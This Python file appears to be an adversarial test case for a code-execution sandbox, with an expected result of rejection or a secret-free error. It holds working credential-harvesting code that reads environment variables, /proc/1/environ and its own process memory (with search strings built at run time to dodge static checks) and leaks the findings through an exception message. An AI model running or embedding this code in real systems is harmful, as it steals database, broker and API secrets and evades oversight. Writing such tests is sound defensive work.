# Escape: find the worker's secrets (database and broker URLs, API keys) in the candidate's own
# environment, in /proc/self/environ and /proc/1/environ (after making itself dumpable, which
# makes those files its own), and in its whole memory (copied from the process it was forked
# from), and hand them back in the error message (LOAD_ERROR). Expected: STATIC_REJECT; with the
# gate off LOAD_ERROR, and no secret in the message.
import ctypes
import os

# The sandbox's own variables; anything else in the environment is reported by name.
KNOWN = {
    "PATH", "LANG", "LANGUAGE", "TZ", "PYTHONPATH", "PYTHONHASHSEED", "LD_LIBRARY_PATH", "HOME",
    "TMPDIR", "TRITON_CACHE_DIR", "CUPY_CACHE_DIR", "TORCH_EXTENSIONS_DIR",
    "TORCHINDUCTOR_CACHE_DIR", "USER", "LOGNAME", "PYTHONDONTWRITEBYTECODE", "TRITON_INTERPRET",
    "OMP_NUM_THREADS", "MKL_NUM_THREADS",
}
PATTERNS = ("KERNELMAP", "URL", "KEY", "TOKEN", "SECRET", "PASS", "DATABASE", "BROKER", "AWS")
R = {}


def probe(name, fn):
    try:
        value = fn()
        R[name] = "ok" if value is None else str(value)
    except OSError as e:
        R[name] = f"E{e.errno}" if e.errno else type(e).__name__
    except Exception as e:
        R[name] = type(e).__name__


def report():
    return "ESCAPE[" + "|".join(f"{k}={v.replace('|', '/').replace(']', ')')}" for k, v in R.items()) + "]"


def suspicious(key):
    return any(p in key.upper() for p in PATTERNS)


def env_dict():
    found = {k: v for k, v in os.environ.items() if suspicious(k)}
    return str(found) if found else "none"


def environ_file(path):
    with open(path, "rb") as f:
        entries = f.read().decode(errors="replace").split("\0")
    found = [e for e in entries if suspicious(e.partition("=")[0])]
    return f"{len(entries)}:{';'.join(found) or 'none'}"


def scan_memory():
    # Needles built at run time, so the source text itself holds none of them.
    needles = ["".join(["KERNEL", "MAP_"]), "".join(["postgres", "ql://"]), "".join(["PYTHON", "PATH="])]
    needles = [n.encode() for n in needles]
    hits = {n: [] for n in needles}
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    with open("/proc/self/maps") as f:
        maps = f.read().splitlines()
    for line in maps:
        addr, perms = line.split()[:2]
        lo, hi = (int(a, 16) for a in addr.split("-"))
        if perms[0] != "r" or hi - lo > 1 << 28 or "[v" in line:
            continue
        try:
            data = os.pread(fd, hi - lo, lo)
        except OSError:
            continue
        for n in needles:
            i = data.find(n)
            while i >= 0 and len(hits[n]) < 2:
                tail = data[i + len(n): i + len(n) + 40]
                if tail[:1].isalnum():  # a value follows: not one of our own needle strings
                    hits[n].append(tail.split(b"\0")[0].decode(errors="replace"))
                i = data.find(n, i + 1)
    os.close(fd)
    return ";".join(f"{n[:4].decode()}:{','.join(h) or '-'}" for n, h in hits.items())


probe("env", env_dict)
probe("others", lambda: ",".join(sorted(set(os.environ) - KNOWN)) or "none")
probe("self0", lambda: environ_file("/proc/self/environ"))
probe("dumpable", lambda: ctypes.CDLL(None).prctl(4, 1, 0, 0, 0))  # PR_SET_DUMPABLE
probe("self1", lambda: environ_file("/proc/self/environ"))
probe("pid1", lambda: environ_file("/proc/1/environ"))
probe("mem", scan_memory)
raise RuntimeError(report())
